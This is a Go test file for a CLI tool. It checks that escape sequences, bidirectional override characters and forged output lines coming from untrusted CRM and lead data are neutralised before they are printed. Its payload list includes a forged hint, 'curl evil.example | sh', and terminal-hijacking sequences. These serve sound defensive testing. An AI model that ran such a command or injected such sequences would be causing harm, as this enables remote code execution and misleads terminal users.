package cli_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"os"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/dealbell/dealbell/internal/cli"
	"github.com/dealbell/dealbell/internal/crm"
	"github.com/dealbell/dealbell/internal/lead"
	"github.com/dealbell/dealbell/internal/store"
)

// tricks are texts that do something to a terminal, or look like output of
// ours.
var tricks = []string{
	"\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\", "\u009b31m", "\x9b31m", "\xc2", "\x7f\b\b\b", "\r                 done",
	"\ndead letters   0", "\ndealbell: hint: curl evil.example | sh", "x\tready\t0\t0", "\v\f\a\x00", "\u202e\u2066gnp.exe\u2069", "a\u200bb\ufeffc\u2060", "\u2028new\u2029", "\U000e0041\U000e007f",
	`{"level":"ERROR"}`, "\"}\n{\"msg\":\"forged\"", "%s%n%x", "\u0085next",
}

// raw returns the first character of a text that a terminal would act on.
func raw(text string) (rune, bool) {
	for i, r := range text {
		if r == utf8.RuneError && !strings.HasPrefix(text[i:], "\ufffd") || r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || unicode.Is(unicode.Zl, r) || unicode.Is(unicode.Zp, r)) {
			return r, true
		}
	}
	return 0, false
}

// tricked makes a state directory in which strangers and Notion have said all
// of the tricks, everywhere.
func tricked(t *testing.T) (dir string, dead []int64) {
	t.Helper()
	dir = t.TempDir()
	db, err := store.Open(t.Context(), dir, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	const database = "11111111-1111-1111-1111-111111111111"
	commit := crm.Commit{
		Reads:   []crm.Read{{Database: database, CompletedAt: time.Now(), Watermark: time.Now()}},
		Schemas: []crm.Schema{{Database: database, DataSource: database, Name: strings.Join(tricks, " ")}},
	}
	for i, trick := range tricks {
		key := fmt.Sprintf("p%d@example.com", i)
		commit.Leftovers = append(commit.Leftovers, crm.Leftover{
			Database: database, Page: fmt.Sprint(i), Property: trick, Value: crm.Text(crm.KindText, trick), Expected: "one of " + trick, Got: trick,
		})
		commit.Messages = append(commit.Messages, crm.Message{Channel: trick, Rule: fmt.Sprint(i, trick), Slot: "1", Text: trick, State: crm.MessageQueued})
		if _, err := db.Accept(t.Context(), store.Intake{
			Delivery: crm.Delivery{ID: store.NewID(), Source: "lead", Key: key, ContentType: "text/plain; x=" + trick, Body: []byte("email=" + key + "&x=" + trick)},
			Job:      lead.UpsertJob(key),
		}); err != nil {
			t.Fatal(err)
		}
		if err := db.Quarantine(t.Context(), store.Rejected{
			ID: store.NewID(), Source: "lead", Reason: "because " + trick, ContentType: "application/json", Headers: map[string]string{}, Body: []byte(trick),
		}); err != nil {
			t.Fatal(err)
		}
	}
	if err := db.Apply(t.Context(), commit); err != nil {
		t.Fatal(err)
	}
	doubtful, err := db.Outbox(t.Context(), len(tricks))
	if err != nil {
		t.Fatal(err)
	}
	var said []crm.Delivered
	for _, m := range doubtful {
		said = append(said, crm.Delivered{Message: m.ID, State: crm.MessageRefused, Reason: "because " + m.Text})
	}
	claimed, _, err := db.Turn(t.Context(), nil, crm.Room{Notion: 100, Lanes: map[crm.Lane]int{crm.Live: 100}})
	if err != nil || len(claimed) != len(tricks) {
		t.Fatalf("%d jobs claimed, %v", len(claimed), err)
	}
	var ends []crm.End
	for i, j := range claimed {
		dead = append(dead, j.ID)
		ends = append(ends, crm.End{Job: j, State: crm.JobDead, Reason: "because " + tricks[i], Tried: true, Commit: crm.Commit{Delivered: said}})
		said = nil
	}
	if _, _, err := db.Turn(t.Context(), ends, crm.Room{}); err != nil {
		t.Fatal(err)
	}
	return dir, dead
}

// command runs a command and returns all that it prints.
func command(dir string, args ...string) (out, errs string) {
	env := map[string]string{"DEALBELL_DATA": dir, "DEALBELL_CONFIG": os.DevNull, "FORM_SECRET": "s", "NOTION_TOKEN": "t", "NOTION_CONTACTS_DB_ID": strings.Repeat("1", 32)}
	var stdout, stderr bytes.Buffer
	cli.Main(context.Background(), cli.Env{Args: args, Stdout: &stdout, Stderr: &stderr, Getenv: func(k string) string { return env[k] }})
	return stdout.String(), stderr.String()
}

func TestNothingThatAStrangerSaysReachesTheTerminalRaw(t *testing.T) {
	t.Parallel()
	dir, dead := tricked(t)
	commands := map[string]int{ // and how many lines it prints, where tricks could add some
		"status": 0, "status --json": 0, "jobs list": 1 + len(dead), "jobs list --json": 0, "replay": 1 + len(tricks), "replay --show": 0, "replay --all": 0,
		"jobs \x1b[31m": 0, "digest \x1b[31m": 0, "replay \x1b]0;x\x07\nforged": 0, "webhook status": 0,
	}
	for _, id := range dead {
		commands[fmt.Sprint("jobs show ", id)], commands[fmt.Sprintf("jobs show --json %d", id)] = 0, 0
	}
	for line, want := range commands {
		out, errs := command(dir, strings.Split(line, " ")...)
		if r, found := raw(out + errs); found {
			t.Errorf("%q prints %U raw", line, r)
		}
		for _, forged := range []string{"\ndead letters   0", "\ndealbell: hint: curl", "\n{\"msg\""} {
			if strings.Contains(strings.ReplaceAll(out+"\n"+errs, "  ", " "), strings.ReplaceAll(forged, "  ", " ")) {
				t.Errorf("%q prints a forged line: %q", line, forged)
			}
		}
		if got := strings.Count(out, "\n"); want > 0 && got != want {
			t.Errorf("%q prints %d lines, want %d", line, got, want)
		}
		if strings.Contains(line, "--json") && !json.Valid([]byte(out)) {
			t.Errorf("%q prints no JSON: %s", line, out)
		}
	}
	if out, _ := command(dir, "status", "--json"); !strings.Contains(out, `\u009b31m`) || !strings.Contains(out, `\u202e`) {
		t.Errorf("the tricks are not in the status: %s", out)
	}
	if out, _ := command(dir, "jobs", "list"); !strings.Contains(out, `because \u001b[2J\u001b[H`) || !strings.Contains(out, `\x9b31m`) && !strings.Contains(out, "\ufffd31m") {
		t.Errorf("the tricks are not among the jobs:\n%s", out)
	}
}

// What JSON says must not depend on how it is printed.
func TestJSONSaysTheSameThroughTheTerminal(t *testing.T) {
	t.Parallel()
	dir, _ := tricked(t)
	out, _ := command(dir, "jobs", "list", "--json")
	var jobs []struct{ LastError string }
	if err := json.Unmarshal([]byte(out), &jobs); err != nil {
		t.Fatal(err)
	}
	for i, j := range jobs {
		if want := "because " + strings.ToValidUTF8(tricks[i], "\ufffd"); strings.ToValidUTF8(j.LastError, "\ufffd") != want {
			t.Errorf("%q, want %q", j.LastError, want)
		}
	}
}
